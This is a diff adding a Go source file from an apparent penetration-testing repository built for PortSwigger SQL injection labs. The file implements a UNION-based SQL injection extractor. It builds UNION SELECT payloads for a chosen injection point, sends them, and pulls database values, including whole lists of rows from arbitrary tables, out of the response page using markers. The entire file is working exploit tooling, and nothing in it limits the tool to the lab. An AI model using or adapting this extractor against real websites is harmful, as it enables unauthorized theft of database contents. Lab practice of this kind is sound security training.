@@ -0,0 +1,122 @@
+package sqli
+
+import (
+	"fmt"
+	"strings"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/payload"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
+)
+
+// UnionExtractor retrieves values by selecting them through a UNION SELECT
+// and reading them back from the page. Every reflected column carries one
+// value, so a single request returns as many values as the page renders columns.
+type UnionExtractor struct {
+	client    *utility.HTTPClient
+	point     InjectionPoint
+	boundary  Boundary
+	oracle    Oracle
+	db        constant.Database
+	columns   ColumnMap
+	reflected []int
+}
+
+// NewUnionExtractor returns an extractor for a query with the given column profile.
+// The oracle must be calibrated on a working and a broken query.
+func NewUnionExtractor(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, oracle Oracle, db constant.Database, columns ColumnMap) (*UnionExtractor, error) {
+	if !boundary.TakesClauses() {
+		return nil, fmt.Errorf("UNION-based extraction is not possible, the %s boundary is balanced by %q", boundary.Context, boundary.Suffix)
+	}
+	reflected := columns.ReflectedColumns()
+	if len(reflected) == 0 {
+		return nil, fmt.Errorf("UNION-based extraction is not possible, none of the %d columns renders strings in the page", columns.Count())
+	}
+	return &UnionExtractor{
+		client:    client,
+		point:     point,
+		boundary:  boundary,
+		oracle:    oracle,
+		db:        db,
+		columns:   columns,
+		reflected: reflected,
+	}, nil
+}
+
+func (u *UnionExtractor) Name() string {
+	return TECHNIQUE_UNION
+}
+
+// BatchSize returns how many values a single request retrieves.
+func (u *UnionExtractor) BatchSize() int {
+	return len(u.reflected)
+}
+
+// ExtractString selects the expression in the first reflected column and reads it back.
+func (u *UnionExtractor) ExtractString(expression string) (string, error) {
+	values, err := u.ExtractStrings([]string{expression})
+	if err != nil {
+		return "", err
+	}
+	return values[0], nil
+}
+
+// ExtractStrings selects up to BatchSize expressions, one per reflected column, each
+// wrapped in markers so it can be told apart from the rest of the page.
+func (u *UnionExtractor) ExtractStrings(expressions []string) ([]string, error) {
+	if len(expressions) > len(u.reflected) {
+		return nil, fmt.Errorf("%d values requested but only %d columns are reflected", len(expressions), len(u.reflected))
+	}
+
+	union := payload.NewUnion(u.db, u.columns.Count()).From(u.columns.DualTable)
+	markers := make([]Marker, len(expressions))
+	for i, expression := range expressions {
+		markers[i] = NewMarker()
+		union = union.Column(u.reflected[i], markers[i].Wrap(u.db, expression))
+	}
+
+	response, err := u.send(union)
+	if err != nil {
+		return nil, err
+	}
+
+	values := make([]string, len(expressions))
+	for i, marker := range markers {
+		value, found := marker.Find(response)
+		if !found {
+			return nil, fmt.Errorf("value of %s not found in the response", expressions[i])
+		}
+		values[i] = value
+	}
+	return values, nil
+}
+
+// ExtractList selects the expression from every matching row of the table and
+// reads all of them from a single response. UNION removes duplicate rows by itself,
+// so a DISTINCT prefix is dropped before the expression is wrapped.
+func (u *UnionExtractor) ExtractList(expression string, table string, where string) ([]string, error) {
+	expression = strings.TrimPrefix(expression, "DISTINCT ")
+	marker := NewMarker()
+	union := payload.NewUnion(u.db, u.columns.Count()).Column(u.reflected[0], marker.Wrap(u.db, expression)).From(table).Where(where)
+	response, err := u.send(union)
+	if err != nil {
+		return nil, err
+	}
+	return marker.FindAll(response), nil
+}
+
+// payload wraps the UNION SELECT in the boundary.
+func (u *UnionExtractor) payload(union payload.Union) string {
+	return u.boundary.Wrap(union.String())
+}
+
+func (u *UnionExtractor) send(union payload.Union) (*Response, error) {
+	response, err := fetchResponse(u.client, u.point, u.payload(union))
+	if err != nil {
+		return nil, err
+	}
+	if !u.oracle.Evaluate(response) {
+		return nil, fmt.Errorf("UNION query failed with status %d", response.StatusCode)
+	}
+	return response, nil
+}